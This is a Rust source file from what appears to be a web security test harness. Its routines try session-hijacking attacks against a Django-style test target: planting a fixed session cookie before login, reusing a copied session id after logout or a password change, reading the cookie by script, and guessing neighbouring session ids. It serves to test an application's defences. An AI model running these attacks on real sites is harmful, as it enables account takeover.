//! `session-hijacking`: a session id that the attacker knows becomes, or stays, the victim's.

use anyhow::{Context, Result, ensure};
use testkit::attacker::Lure;

use super::{Outcome, member};
use crate::{Arena, Person, Target};

/// The cookie that carries the session id.
const COOKIE: &str = "sessionid";

/// An id in the form of those that Django makes.
const PLANTED: &str = "0planted0planted0planted0planted";

/// Plants a session id in the victim's browser before they log in, and uses it afterwards.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn planted_session_id(arena: &Arena) -> Result<Outcome> {
    arena.sign_up(Person::VICTIM).await?;
    arena
        .browser
        .open(&arena.trap(Lure::Sibling).planted_cookie(COOKIE, PLANTED))
        .await?;
    let planted = arena.browser.cookie(COOKIE).await?;
    ensure!(
        planted.as_deref() == Some(PLANTED),
        "the browser took no cookie for the whole domain"
    );
    arena.log_in(Person::VICTIM).await?;
    use_id(arena, PLANTED).await
}

/// Plants the attacker's own, living session before the victim logs in, and uses it afterwards.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn planted_session(arena: &Arena) -> Result<Outcome> {
    arena.sign_up(Person::VICTIM).await?;
    arena.enter(Person::ATTACKER).await?;
    let planted = session_of(arena).await?;
    let Person { username, password } = Person::VICTIM;
    let mut victim = arena.target.visitor()?.with_cookie(COOKIE, &planted);
    victim
        .submit("/login/", &[("username", username), ("password", password)])
        .await?;
    let page = victim.open("/profile/").await?.text();
    ensure!(
        page.contains(username),
        "the victim was not logged in by the planted session's side"
    );
    use_id(arena, &planted).await
}

/// Keeps a copy of the cookie, lets the victim log out, and comes back with it.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn session_id_after_logout(arena: &Arena) -> Result<Outcome> {
    arena.enter(Person::VICTIM).await?;
    let stolen = steal(arena).await?;
    arena.log_out().await?;
    use_id(arena, &stolen).await
}

/// Keeps a copy of the cookie, lets the victim change their password, and comes back with it.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn session_id_after_a_new_password(arena: &Arena) -> Result<Outcome> {
    arena.enter(Person::VICTIM).await?;
    let stolen = steal(arena).await?;
    arena.open("/password/").await?;
    let new = "a quite different sentence 9";
    let fields = [
        ("old_password", Person::VICTIM.password),
        ("new_password1", new),
        ("new_password2", new),
    ];
    arena.browser.fill_all(&fields).await?;
    arena.browser.submit().await?;
    arena
        .log_in(Person {
            password: new,
            ..Person::VICTIM
        })
        .await?;
    use_id(arena, &stolen).await
}

/// Reads the session id by script, as a script that found its way into a page would.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn session_id_read_by_script(arena: &Arena) -> Result<Outcome> {
    arena.enter(Person::VICTIM).await?;
    session_of(arena).await?;
    let readable = arena.browser.run("return document.cookie", &[]).await?;
    let readable = readable.as_str().unwrap_or_default().to_owned();
    Ok(Outcome::new(
        readable.contains(COOKIE),
        format!("scripts can read {readable:?}"),
    ))
}

/// Counts on from the attacker's own session id to those that were handed out before.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn session_id_counted_on(target: &Target) -> Result<Outcome> {
    let _victim = member(target, Person::VICTIM.username).await?;
    let attacker = member(target, Person::ATTACKER.username).await?;
    let own = attacker.cookie(COOKIE).context("the attacker has no session")?;
    let mut before = own.to_owned();
    before.pop();
    for last in ('0'..='9').chain('a'..='z') {
        let guess = format!("{before}{last}");
        let reply = target.visitor()?.with_cookie(COOKIE, &guess).open("/").await?;
        if guess != own && reply.text().contains(Person::VICTIM.username) {
            return Ok(Outcome::new(true, format!("{guess} is the victim's")));
        }
    }
    Ok(Outcome::new(
        false,
        "no neighbour of the attacker's id is anybody's",
    ))
}

/// Comes with a session id that is the victim's if the attack worked.
async fn use_id(arena: &Arena, id: &str) -> Result<Outcome> {
    let reply = arena
        .target
        .visitor()?
        .with_cookie(COOKIE, id)
        .open("/profile/")
        .await?;
    let inside = reply.status.is_success() && reply.text().contains(Person::VICTIM.username);
    Ok(Outcome::new(
        inside,
        format!("the id was answered with {}", reply.status),
    ))
}

/// Copies the victim's session id, and sees that it opens their pages as long as they are logged in.
async fn steal(arena: &Arena) -> Result<String> {
    let stolen = session_of(arena).await?;
    let outcome = use_id(arena, &stolen).await?;
    ensure!(
        outcome.succeeded,
        "the victim's own id does not work: {}",
        outcome.evidence
    );
    Ok(stolen)
}

async fn session_of(arena: &Arena) -> Result<String> {
    arena
        .browser
        .cookie(COOKIE)
        .await?
        .context("the victim has no session cookie")
}
